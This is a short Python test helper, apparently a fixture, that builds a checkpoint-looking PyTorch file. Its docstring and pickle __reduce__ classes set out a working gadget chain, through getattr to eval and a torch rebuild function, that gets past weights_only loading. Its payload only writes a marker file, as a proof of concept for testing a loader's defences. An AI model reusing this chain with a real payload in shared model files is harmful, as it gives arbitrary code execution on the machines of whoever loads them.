"""A hostile ``.pth``: under ``torch.load(weights_only=True)`` with the real
``builtins.getattr`` allowed, it runs ``eval`` (which only writes a marker
file).

The chain: ``getattr(getattr, '__self__')`` is the ``builtins`` module,
``getattr(builtins, 'eval')`` is ``eval``, and torch's default-allowed
``torch._tensor._rebuild_from_type_v2(func, type, args, state)`` calls
``func(*args)``.
"""
import torch


class _Builtins:

    def __reduce__(self):
        return getattr, (getattr, '__self__')


class _Eval:

    def __reduce__(self):
        return getattr, (_Builtins(), 'eval')


class _Run:

    def __init__(self, code):
        self.code = code

    def __reduce__(self):
        return torch._tensor._rebuild_from_type_v2, (_Eval(), torch.Tensor,
                                                     (self.code, ), {})


def write_crafted_checkpoint(path, marker) -> None:
    """Save a checkpoint-looking file whose payload creates ``marker``."""
    code = f"open({str(marker)!r}, 'w').write('pwned')"
    torch.save(
        dict(
            state_dict={'backbone.x': torch.zeros(1)},
            meta=dict(payload=_Run(code))), str(path))
